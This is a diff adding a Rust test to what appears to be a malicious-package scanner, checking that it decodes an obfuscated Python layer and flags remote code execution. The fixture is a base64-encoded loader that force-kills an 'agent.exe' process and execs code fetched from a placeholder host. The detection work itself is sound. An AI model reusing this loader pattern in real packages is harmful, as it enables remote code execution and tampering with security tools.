@@ -180,3 +180,17 @@ fn honest_packages_that_decode_are_clean() {
         assert_eq!((report.verdict, report.score), (Verdict::Clean, 0.0), "{:#?}", report.findings);
     }
 }
+
+/// Commands for other shells within a hidden program make it no script of theirs.
+#[test]
+fn a_program_that_speaks_to_other_shells_is_python() {
+    // `os.system('taskkill ...')`, `os.system('echo $env:TEMP')`, and `exec` of what an address gives.
+    let encoded = "aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdApvcy5zeXN0ZW0oJ3Rhc2traWxsIC9mIC9pbSBhZ2VudC5leGUnKQpv\
+         cy5zeXN0ZW0oJ2VjaG8gJGVudjpURU1QJykKZXhlYyh1cmxsaWIucmVxdWVzdC51cmxvcGVuKCdodHRwOi8veC5l\
+         eGFtcGxlLmludmFsaWQvYicpLnJlYWQoKSkK";
+    let init = format!("import base64\nexec(base64.b64decode('{encoded}'))\n");
+    let report = inspected(&[("series/__init__.py", &init)]);
+    assert!(report.layers.iter().any(|layer| layer.language == "python"), "{:#?}", report.layers);
+    let is_of_layer = |rule: &str| report.findings.iter().any(|f| f.rule.as_str() == rule && f.layer == 1);
+    assert!(is_of_layer("network-exec"), "{:#?}", report.findings);
+}
